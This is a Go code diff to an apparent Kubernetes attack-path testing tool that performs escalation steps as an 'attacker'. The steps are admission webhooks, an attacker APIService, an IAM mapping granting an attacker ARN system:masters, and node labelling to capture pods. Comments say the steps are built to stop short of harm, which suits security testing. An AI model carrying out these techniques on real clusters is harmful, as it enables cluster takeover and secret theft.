@@ -40,15 +40,12 @@ func (e *executor) bootstrapToken(ctx context.Context, s step) error {
 func (e *executor) admissionControl(ctx context.Context, s step) error {
 	actors := e.acting(s)
 	if _, ok := strings.CutPrefix(s.Because, "may create a mutating admission policy"); ok {
-		made, _ := first(actors, func(a *actor) answer { return a.post(ctx, mutatingPolicies.in(""), mutatingPolicy()) })
-		if err := made.failure(); err != nil {
+		if err := e.configure(ctx, actors, mutatingPolicies, mutatingPolicy()); err != nil {
 			return err
 		}
-		made, _ = first(actors, func(a *actor) answer { return a.post(ctx, mutatingBindings.in(""), mutatingBinding()) })
-		return made.failure()
+		return e.configure(ctx, actors, mutatingBindings, mutatingBinding())
 	}
-	made, _ := first(actors, func(a *actor) answer { return configure(ctx, a, mutatingWebhooks, e.list(ctx, mutatingWebhooks)) })
-	return made.failure()
+	return e.configure(ctx, actors, mutatingWebhooks, mutatingWebhook())
 }
 
 // nowhere selects no namespace, so that what the attacker configures changes nothing here.
@@ -57,22 +54,27 @@ var nowhere = map[string]any{"matchLabels": map[string]any{"kubernetes.io/metada
 // admissionReviews configures a validating webhook that is told what is written into secrets. It ends before a secret
 // comes by.
 func (e *executor) admissionReviews(ctx context.Context, s step) error {
-	made, _ := first(e.acting(s), func(a *actor) answer { return configure(ctx, a, validatingWebhooks, e.list(ctx, validatingWebhooks)) })
-	return made.failure()
+	return e.configure(ctx, e.acting(s), validatingWebhooks, mutatingWebhook())
 }
 
-// configure makes a configuration of webhooks, or changes one of those that exist.
-func configure(ctx context.Context, a *actor, kind resource, existing []object) answer {
-	last := a.post(ctx, kind.in(""), mutatingWebhook())
-	for _, o := range existing {
-		if last.refused() {
+// configure makes an object that has no namespace, or changes one of those that exist. A change is only tried: it may be of
+// what the cluster needs.
+func (e *executor) configure(ctx context.Context, actors []*actor, kind resource, made map[string]any) error {
+	existing := e.list(ctx, kind)
+	last, _ := first(actors, func(a *actor) answer {
+		last := a.post(ctx, kind.in(""), made)
+		for _, o := range existing {
+			if !last.refused() {
+				break
+			}
 			annotated := map[string]any{"metadata": map[string]any{"annotations": map[string]any{"made": "yes"}}}
-			if last = a.patch(ctx, o.path, mergePatch, annotated); last.refused() {
-				last = a.put(ctx, o.path, o.content) // these have to name their version
+			if last = a.patch(ctx, dry(o.path), mergePatch, annotated); last.refused() {
+				last = a.put(ctx, dry(o.path), o.content) // some have to name their version
 			}
 		}
-	}
-	return last
+		return last
+	})
+	return last.failure()
 }
 
 func mutatingWebhook() map[string]any {
@@ -102,10 +104,9 @@ func mutatingBinding() map[string]any {
 	return map[string]any{"metadata": map[string]any{"name": "made"}, "spec": map[string]any{"policyName": "made"}}
 }
 
-// apiService registers an API server. It ends before requests of others come by.
+// apiService registers an API server, or changes the address of one. It ends before requests of others come by.
 func (e *executor) apiService(ctx context.Context, s step) error {
-	made, _ := first(e.acting(s), func(a *actor) answer { return a.post(ctx, apiServices.in(""), attackerAPI()) })
-	return made.failure()
+	return e.configure(ctx, e.acting(s), apiServices, attackerAPI())
 }
 
 func attackerAPI() map[string]any {
@@ -118,6 +119,9 @@ func attackerAPI() map[string]any {
 // nodeIdentityConfig writes the mappings of identities. It ends there: no part of this cluster
 // reads them.
 func (e *executor) nodeIdentityConfig(ctx context.Context, s step) error {
+	if kind, _ := s.may(); kind == identityMappings.name {
+		return e.configure(ctx, e.acting(s), identityMappings, attackerMapping())
+	}
 	mappings := map[string]any{"metadata": map[string]any{"name": "aws-auth"}, "data": map[string]any{"mapUsers": "[]"}}
 	made, _ := first(e.acting(s), func(a *actor) answer {
 		if created := a.post(ctx, configMaps.in("kube-system"), mappings); created.ok() {
@@ -128,18 +132,48 @@ func (e *executor) nodeIdentityConfig(ctx context.Context, s step) error {
 	return made.failure()
 }
 
+func attackerMapping() map[string]any {
+	return map[string]any{
+		"apiVersion": identityMappings.group + "/" + identityMappings.version, "kind": "IAMIdentityMapping",
+		"metadata": map[string]any{"name": "made"},
+		"spec": map[string]any{
+			"arn": "arn:aws:iam::000000000000:user/attacker", "username": "attacker", "groups": []string{"system:masters"},
+		},
+	}
+}
+
 // labelNode labels a node that is held, as the node itself or as an account that may change nodes or their status.
-func (e *executor) labelNode(ctx context.Context, s step, labels map[string]any) error {
+func (e *executor) labelNode(ctx context.Context, s step, labels map[string]string) error {
 	last := error(errNoActor)
 	for name := range e.nodes {
 		for _, path := range []string{nodes.at("", name), nodes.at("", name, "status")} {
-			labelled, _ := first(e.acting(s), func(a *actor) answer { return a.patch(ctx, path, strategicPatch, labels) })
-			if last = labelled.failure(); last == nil {
+			if last = e.addLabels(ctx, s, path, labels).failure(); last == nil {
 				return nil
 			}
 		}
 	}
 	return last
+}
+
+// addLabels labels an object by patch, or by update, which needs the whole object.
+func (e *executor) addLabels(ctx context.Context, s step, path string, labels map[string]string) answer {
+	var whole map[string]any
+	if a := e.admin.get(ctx, path); a.into(&whole) != nil {
+		return a
+	}
+	metadata, _ := whole["metadata"].(map[string]any)
+	all, _ := metadata["labels"].(map[string]any)
+	if all == nil {
+		all = map[string]any{}
+	}
+	for k, v := range labels {
+		all[k] = v
+	}
+	metadata["labels"] = all
+	a, _ := first(e.acting(s), func(a *actor) answer {
+		return replace(ctx, a, path, whole, map[string]any{"metadata": map[string]any{"labels": labels}})
+	})
+	return a
 }
 
 // stealPods gives the node the labels that pods select, and waits until the scheduler binds
@@ -154,8 +188,7 @@ func (e *executor) stealPods(ctx context.Context, s step) error {
 		if p.Spec.NodeName != "" || p.Namespace != s.To.Namespace {
 			continue
 		}
-		labels := map[string]any{"metadata": map[string]any{"labels": p.Spec.NodeSelector}}
-		if err := e.labelNode(ctx, s, labels); err != nil {
+		if err := e.labelNode(ctx, s, p.Spec.NodeSelector); err != nil {
 			return err
 		}
 		err := until(ctx, "the scheduler binds the pod to the node", func(ctx context.Context) error {
